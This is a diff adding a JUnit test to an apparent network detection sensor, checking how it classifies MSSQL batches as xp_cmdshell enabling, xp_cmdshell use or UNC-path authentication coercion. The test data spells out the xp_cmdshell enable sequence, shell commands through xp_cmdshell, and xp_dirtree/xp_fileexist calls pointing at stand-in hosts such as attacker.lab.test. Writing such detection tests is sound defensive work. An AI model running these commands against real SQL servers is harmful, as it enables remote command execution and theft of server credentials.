@@ -5,6 +5,7 @@ import io.impacketsensor.core.event.DcerpcEvent;
 import io.impacketsensor.core.event.RpcArgs;
 import io.impacketsensor.core.event.KerberosEvent;
 import io.impacketsensor.core.event.LdapEvent;
+import io.impacketsensor.core.event.MssqlEvent;
 import io.impacketsensor.core.event.NtlmEvent;
 import io.impacketsensor.core.event.RpcInterfaces;
 import io.impacketsensor.core.event.SensorEvent;
@@ -12,6 +13,7 @@ import io.impacketsensor.core.event.SmbEvent;
 import io.impacketsensor.detection.rules.DataRuleIndex;
 import io.impacketsensor.detection.rules.EventKind;
 import io.impacketsensor.detection.rules.LdapFilterShape;
+import io.impacketsensor.detection.rules.MssqlBatchShape;
 import io.impacketsensor.detection.rules.RuleCatalog;
 import io.impacketsensor.detection.rules.SmbFileShape;
 import org.junit.jupiter.api.Test;
@@ -184,6 +186,42 @@ class DataFieldsTest {
         assertEquals(List.of("admin_share_exe"), signatures(h.create(ATK, SRV, 0, "C$", "tools\\setup.exe", false,
                 true)));
         assertEquals(List.of(), signatures(h.read(ATK, SRV, 0, "C$", "tools\\setup.exe")));
+    }
+
+    private MssqlEvent.MssqlBatch batch(String text) {
+        return new MssqlEvent.MssqlBatch(h.h(ATK, SRV, 1433, 0), text, false);
+    }
+
+    @Test
+    void sqlBatchShapesTellCommandsFromOptionNamesAndFindTheUncHost() {
+        // What mssqlclient.py sends (its enable_xp_cmdshell, xp_cmdshell and a file procedure on a UNC path).
+        String enable = "exec master.dbo.sp_configure 'show advanced options',1;RECONFIGURE;"
+                + "exec master.dbo.sp_configure 'xp_cmdshell', 1;RECONFIGURE;";
+        assertEquals(MssqlBatchShape.XP_CMDSHELL_ENABLE, MssqlBatchShape.of(enable));
+        assertEquals(List.of("mssql_xp_cmdshell_enable"), signatures(batch(enable)));
+        assertEquals(List.of("mssql_xp_cmdshell"), signatures(batch("exec master..xp_cmdshell 'whoami'\r\n")));
+        assertEquals(MssqlBatchShape.XP_CMDSHELL, MssqlBatchShape.of("EXEC [master].[sys].[XP_CMDSHELL] N'dir'"));
+        // Turning it off, reading its setting, or a longer name is neither.
+        assertEquals(0, MssqlBatchShape.of("EXEC sp_configure 'xp_cmdshell', 0; RECONFIGURE"));
+        assertEquals(0, MssqlBatchShape.of("EXEC sp_configure 'xp_cmdshell'"));
+        assertEquals(MssqlBatchShape.XP_CMDSHELL_ENABLE,
+                MssqlBatchShape.of("EXEC sp_configure @configname = 'xp_cmdshell', @configvalue = 1"));
+        assertEquals(0, MssqlBatchShape.of("select * from my_xp_cmdshell_log"));
+        // A file procedure on a UNC path names the host the server will authenticate to.
+        String dirtree = "EXEC master..xp_dirtree '\\\\10.99.0.2\\share'\r\n";
+        assertEquals(MssqlBatchShape.UNC_FILE_PROCEDURE, MssqlBatchShape.of(dirtree));
+        assertEquals("\\\\10.99.0.2\\share", MssqlBatchShape.path(dirtree));
+        assertEquals("10.99.0.2", MssqlBatchShape.host(dirtree));
+        assertEquals("xp_dirtree", MssqlBatchShape.procedure(dirtree));
+        assertEquals(List.of("coercion_mssql_unc_path"), signatures(batch(dirtree)));
+        assertEquals(List.of("coercion_mssql_unc_path"), signatures(batch(
+                "EXEC master.dbo.xp_fileexist N'\\\\attacker.lab.test\\share\\report.xlsx'")));
+        assertEquals("attacker.lab.test", MssqlBatchShape.host("exec xp_subdirs '//attacker.lab.test/s/'"));
+        // Local paths and a path in another argument are not coercion.
+        assertEquals(0, MssqlBatchShape.of("EXEC xp_dirtree 'C:\\Program Files', 1, 1"));
+        assertEquals(0, MssqlBatchShape.of("EXEC xp_fileexist @path"));
+        assertNull(MssqlBatchShape.host("EXEC xp_dirtree 'C:\\temp'"));
+        assertEquals(List.of(), signatures(batch("select @@version")));
     }
 
     @Test
